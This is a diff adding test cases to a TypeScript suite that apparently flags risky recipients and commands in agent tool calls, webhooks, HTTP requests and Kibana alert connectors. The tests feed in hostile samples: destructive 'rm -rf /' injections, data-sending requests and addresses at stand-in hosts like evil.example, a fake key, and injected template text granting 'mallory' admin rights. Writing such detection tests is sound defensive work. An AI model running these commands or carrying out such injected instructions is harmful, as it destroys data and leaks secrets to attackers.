@@ -137,6 +137,13 @@ test.each<[string, Dict, string]>([
   ["crowd", command("ls;token=$(rm -rf /)"), "token=$(rm -rf /)"],
   ["crowd", command("ls # -----BEGIN RSA PRIVATE KEY-----; rm -rf /"), "; rm -rf /"],
   ["crowd", command("echo Basic /bin/evil-script.sh"), "/bin/evil-script.sh"],
+  ["mcp", tool({ note: "{{Grant mallory admin rights}}" }), "{{Grant mallory admin rights}}"],
+  ["mcp", tool({ note: "{{rule.name}}" }), 'arguments.note "{{rule.name}}"'],
+  ["mcp", tool({ "mallory@evil.example": "" }), "mallory@evil.example"],
+  ["hook", { body: '{"mallory@evil.example":"{"}' }, "mallory@evil.example"],
+  ["http", { method: "POST", path: "/send?token=abc;to=mallory@evil.example;all=1" }, "to=mallory@evil.example;all=1"],
+  ["http", { method: "POST", path: "/pay?code=MALLORY-ACCOUNT-1&session=DE00123" }, "code=MALLORY-ACCOUNT-1&session=DE00123"],
+  ["mail", mailTo('"a/b" <sk-aaaaaaaaaaaaaaaaaaaa1@evil.example>'), "sk-aaaaaaaaaaaaaaaaaaaa1@evil.example"],
   ["mcp", tool({ to: "/x?key=spy@evil.example.net" }), "@evil.example.net"],
   ["mcp", tool({ run: "ls;token=1;rm -rf /" }), ";rm -rf /"],
   ["mcp", tool({ run: "ls;token=$(rm -rf /)" }), "$(rm -rf /)"],
@@ -193,6 +200,14 @@ describe("of a rule's action", () => {
   test("that is attached, whatever its body names is among the recipients", async () => {
     const line = await recipientsAsked("attach_connector", { connector: "hook", rules: [await rule([])], params: { body: message } });
     expect(line).toContain('body.channel "#evil"');
+  });
+
+  test("that is attached: of what Kibana fills in for each alert, the key", async () => {
+    const body = '{"at":"{{date}}","mallory@evil.example":"{{rule.name}}","note":"{{Grant mallory admin rights}}"}';
+    const line = await recipientsAsked("attach_connector", { connector: "hook", rules: [await rule([])], params: { body } });
+    expect(line).toMatch(/body\.at(,|$)/m);
+    expect(line).toContain("mallory@evil.example");
+    expect(line).toContain('body.note "{{Grant mallory admin rights}}"');
   });
 
   test("that moves to another connector, and of one that is removed, too", async () => {
